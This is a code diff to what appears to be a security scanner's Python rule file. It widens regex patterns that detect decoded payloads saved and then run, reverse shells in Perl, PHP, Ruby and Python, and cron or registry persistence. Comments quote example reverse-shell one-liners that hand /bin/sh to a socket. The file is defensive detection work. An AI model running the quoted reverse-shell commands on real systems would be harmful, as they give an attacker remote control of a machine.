@@ -64,7 +64,7 @@ _SAVED_THEN_RUN = _saved_then_run(r"(?:curl|wget)\b", r"\s-[A-Za-z]*o\s*|\s--out
 #: A decoded payload saved to a file (``> FILE``, ``-o FILE``, ``-out FILE``), then that file run.
 _DECODED_THEN_RUN = _saved_then_run(r"(?:base64\s+(?:-\w+\s+)*(?:-[a-zA-Z]*[dD][a-zA-Z]*|--decode)|"
                                     r"xxd\s+(?:-\w+\s+)*-r|openssl\s+(?:base64|enc)\s+[^\n;&|>]{0,80}?-d)\b",
-                                    r"\s-o\s*|\s--output[= ]\s*|\s-out\s+")
+                                    r"\s-o\s*|\s--output[= ]\s*|\s-out\s+|\|\s*tee\s+(?:-a\s+)?")
 #: A URL as an argument of a command (a word or a variable, after a space, a quote or a separator):
 #: :func:`_given_to_a_command` checks that the command starts its line or segment.
 _URL_ARGUMENT = (r"(?<![^\s;&|(`\"'])(?:\$\{?\w+\}?|[\w./-]+)(?:[ \t]+-{1,2}[\w-]+(?:[= ][^\s|;\"']+)?)*"
@@ -274,17 +274,18 @@ REVERSE_SHELL = Rule(
         pattern(r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
                 r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)"),
         pattern(r"\bNet\.Sockets\.TCPClient\b[^\n]{0,600}\b(?:iex|Invoke-Expression)\b"),
-        # perl -e 'socket(S,...);connect(S,...);open(STDIN,">&S");exec("/bin/sh -i")'
-        pattern(rf"\bsocket\s*\([^\n]{{0,400}}\bconnect\s*\([^\n]{{0,400}}\bexec\s*\(?\s*[\"']{_A_SHELL}"),
+        # perl -e 'socket(S,...);connect(S,...);open(STDIN,">&S");exec("/bin/sh -i")' (or system, q{...})
+        pattern(rf"\bsocket\s*\([^\n]{{0,400}}\bconnect\s*\([^\n]{{0,400}}\b(?:exec|system)\s*\(?\s*"
+                rf"(?:[\"']|qq?\s*[{{(\[/|]){_A_SHELL}"),
         pattern(r"\bIO::Socket::INET\b[^\n]{0,400}\bfdopen\b[^\n]{0,400}\b(?:system|exec)\b"),
-        # php -r '$s=fsockopen("host",4444);exec("/bin/sh -i <&3 >&3 2>&3");' (or proc_open, system...)
-        pattern(rf"\bfsockopen\s*\([^\n]{{0,400}}\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*"
-                rf"[\"']{_A_SHELL}"),
+        # php -r '$s=fsockopen("host",4444);exec("/bin/sh -i <&3 >&3 2>&3");' (or proc_open, system, backticks)
+        pattern(rf"\bfsockopen\s*\([^\n]{{0,400}}(?:\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*"
+                rf"[\"']|`){_A_SHELL}"),
         # ruby -rsocket -e 'f=TCPSocket.open("host",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
+        pattern(rf"\bTCPSocket\.(?:open|new)\b[^\n]{{0,400}}(?:\b(?:exec|spawn|system)\b[^\n]{{0,40}}?"
+                rf"(?:[\"']|%[qQ]?[({{\[<|]){_A_SHELL}|\bIO\.popen\s*\(\s*\$_)"),
         # Python over several lines: os.dup2(s.fileno(), 0) of a connected socket, then a shell
         pattern(r"\bos\.dup2\s*\(\s*(\w+)\.fileno\(\)\s*,\s*(?:[0-2]|\w+)\s*\)", condition=_socket_handed_a_shell),
-        pattern(rf"\bTCPSocket\.(?:open|new)\b[^\n]{{0,400}}(?:\b(?:exec|spawn|system)\b[^\n]{{0,40}}?[\"']"
-                rf"{_A_SHELL}|\bIO\.popen\s*\(\s*\$_)"),
     ))
 
 #: A home folder as a command names it.
@@ -328,6 +329,8 @@ PERSISTENCE = Rule(
                 r"Windows\\+CurrentVersion\\+Run(?:Once)?\b|"
                 r"\b(?:Registry::)?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE):?\\*Software\\+Microsoft\\+Windows\\+"
                 r"CurrentVersion\\+Run(?:Once)?\b"),
+        command(r"\b(?:cp|mv|ln)\b", r"[^\n;&|]*",
+                r"\s[\"']?/(?:etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|var/spool/cron)\b"),
         pattern(rf"\bsystemctl\s+(?:--user\s+enable|enable\s+--user)\b|\blaunchctl\s+(?:load|bootstrap)\b|"
                 rf"{_WRITTEN_TO}{_HOME}/Library/LaunchAgents/|{_WRITTEN_TO}(?:\S*/)?\.git/hooks/[\w-]+",
                 severity="low"),
